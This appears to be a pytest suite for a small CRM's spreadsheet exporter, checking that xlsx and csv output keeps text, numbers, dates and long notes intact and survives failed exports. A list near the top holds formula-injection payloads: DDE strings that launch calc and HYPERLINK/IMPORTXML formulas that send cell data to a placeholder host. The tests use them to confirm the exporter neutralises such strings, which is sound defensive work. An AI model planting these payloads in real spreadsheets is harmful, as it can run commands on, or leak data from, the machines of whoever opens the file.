"""Workbooks and csv files that are safe to open and lose nothing."""

import csv
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from smallcrm.core.errors import Cancelled, StorageError
from smallcrm.exporters.sheets import (
    LONGEST_CELL,
    SheetColumn,
    clean_sheet_name,
    write_csv,
    write_xlsx,
)

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?" & A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "+86-138-0013-8000",
    '=IMPORTXML(CONCAT("http://example.invalid/", A1), "//a")',
    "-1-1",
]
LEFT_ALONE = [
    "-5",
    "+12.50",
    "-1,234.50",
    "13800138000",
    "+49 30 123456",
    "021 6210 8888 x802",
    "a=b",
]
COLUMN = (SheetColumn("Text"),)


def cells(path: Path) -> list[list[openpyxl.cell.Cell]]:
    return [list(row) for row in openpyxl.load_workbook(path).active.iter_rows()]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_in_a_workbook(tmp_path: Path, payload: str) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, "=A1", (SheetColumn(payload),), [[payload]])
    head, row = cells(path)
    for cell in (head[0], row[0]):
        assert cell.data_type == "s"
        assert cell.value.replace("\n", "\r") == payload.replace("\n", "\r")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_in_a_csv_file(tmp_path: Path, payload: str) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, (SheetColumn(payload),), [[payload]])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle)) == [["'" + payload], ["'" + payload]]


def test_numbers_and_phones_are_left_as_they_are(tmp_path: Path) -> None:
    book, text = tmp_path / "out.xlsx", tmp_path / "out.csv"
    write_xlsx(book, "x", COLUMN, [[value] for value in LEFT_ALONE])
    write_csv(text, COLUMN, [[value] for value in LEFT_ALONE])
    found = [row[0] for row in cells(book)[1:]]
    assert [cell.value for cell in found] == LEFT_ALONE
    assert {cell.data_type for cell in found} == {"s"}, "a phone stays text"
    with text.open(encoding="utf-8-sig", newline="") as handle:
        assert [row[0] for row in csv.reader(handle)][1:] == LEFT_ALONE


def test_a_long_note_is_not_cut(tmp_path: Path) -> None:
    note = "长" * 40_000
    path = tmp_path / "out.xlsx"
    write_xlsx(path, "x", (SheetColumn("Note"), SheetColumn("Next")), [[note, "b"], ["c", "d"]])
    _head, first, second = ([cell.value for cell in row] for row in cells(path))
    assert first == ["长" * LONGEST_CELL, "b", "长" * (40_000 - LONGEST_CELL)]
    assert second == ["c", "d", None]
    text = tmp_path / "out.csv"
    write_csv(text, COLUMN, [[note]])
    assert note in text.read_text(encoding="utf-8-sig")


def test_real_dates_and_numbers(tmp_path: Path) -> None:
    columns = tuple(SheetColumn(kind, kind) for kind in ("money", "date", "number", "percent"))
    row = [Decimal("1234.50"), date(2026, 11, 18), 7, 50]
    path = tmp_path / "out.xlsx"
    write_xlsx(path, "x", columns, [row, [None] * 4])
    _head, found, empty = cells(path)
    assert [cell.value for cell in found] == [1234.5, datetime(2026, 11, 18), 7, 50]
    assert [cell.number_format for cell in found] == ["#,##0.00", "yyyy-mm-dd", "0", '0"%"']
    assert [cell.value for cell in empty] == [None] * 4
    text = tmp_path / "out.csv"
    write_csv(text, columns, [row])
    assert text.read_text(encoding="utf-8-sig").splitlines()[1] == "1234.50,2026-11-18,7,50"


@settings(max_examples=30, deadline=None)
@given(text=st.text(alphabet=st.characters(codec=None), max_size=40))
def test_any_text_can_be_written_and_opened(
    text: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("any")
    write_xlsx(folder / "out.xlsx", text, (SheetColumn(text),), [[text]])
    openpyxl.load_workbook(folder / "out.xlsx")
    write_csv(folder / "out.csv", (SheetColumn(text),), [[text]])


def test_control_characters_are_left_out(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, "x", COLUMN, [["a\x00b\x07c\ufeffd😀\nline\uffff"]])
    assert cells(path)[1][0].value == "abc\ufeffd😀\nline"


def test_sheet_names_excel_accepts() -> None:
    assert clean_sheet_name("客户 [1]: a/b?") == "客户  1   a b "
    assert clean_sheet_name("长" * 50) == "长" * 31
    assert clean_sheet_name("''") == "Sheet1"


@pytest.mark.parametrize("write", ["xlsx", "csv"])
def test_a_failed_export_leaves_the_old_file_and_nothing_else(tmp_path: Path, write: str) -> None:
    path = tmp_path / f"out.{write}"
    path.write_text("old")

    def stopping() -> Iterator[list[str]]:
        yield ["a"]
        raise Cancelled

    def run(target: Path) -> None:
        if write == "xlsx":
            write_xlsx(target, "x", COLUMN, stopping())
        else:
            write_csv(target, COLUMN, stopping())

    with pytest.raises(Cancelled):
        run(path)
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]
    with pytest.raises(StorageError) as told:
        run(tmp_path / "no such folder" / path.name)
    assert told.value.kind == "io"


def test_sums_under_the_rows_are_formulas(tmp_path: Path) -> None:
    columns = (SheetColumn("Who"), SheetColumn("Paid", "money", total=True))
    path = tmp_path / "out.xlsx"
    write_xlsx(path, "Sums", columns, [("=A", Decimal("1.50")), ("B", None)], total="In all")
    sheet = openpyxl.load_workbook(path).active
    assert [cell.value for cell in sheet[4]] == ["In all", "=SUM(B2:B3)"]
    assert sheet["B4"].number_format == "#,##0.00"
    # What a program shows that does not calculate.
    assert openpyxl.load_workbook(path, data_only=True).active["B4"].value == 1.5
    assert [one.name for one in tmp_path.iterdir()] == ["out.xlsx"]
    write_xlsx(path, "Sums", columns, [], total="In all")
    assert openpyxl.load_workbook(path).active.max_row == 1
